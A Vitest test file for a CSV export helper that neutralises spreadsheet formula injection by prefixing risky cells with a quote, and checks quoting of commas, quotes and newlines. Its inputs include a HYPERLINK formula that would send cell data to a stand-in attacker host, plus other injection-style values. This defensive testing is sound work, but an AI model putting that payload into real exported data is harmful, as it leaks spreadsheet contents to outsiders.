import { describe, expect, it } from 'vitest';
import { csvField, csvRow, neutralizeFormula } from '../../src/lib/spreadsheet';

describe('neutralizeFormula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+44 20 7946 0100', "'+44 20 7946 0100"],
    ['-2', "'-2"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', "'\r=cmd"],
    ['=HYPERLINK("http://evil.example?"&A1)', '\'=HYPERLINK("http://evil.example?"&A1)'],
  ])('makes %j text: %j', (input, output) => {
    expect(neutralizeFormula(input)).toBe(output);
  });

  it.each(['London', 'NEC123456789', 'a=b', ' =1', '', "'already text"])('leaves %j alone', (input) => {
    expect(neutralizeFormula(input)).toBe(input);
  });
});

describe('csvField and csvRow', () => {
  it('quotes what needs quoting after neutralising, and writes numbers as numbers', () => {
    expect(csvField('=1,2')).toBe('"\'=1,2"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvRow(['NEC123456789', '@evil', 12.5, undefined])).toBe("NEC123456789,'@evil,12.5,\r\n");
  });
});
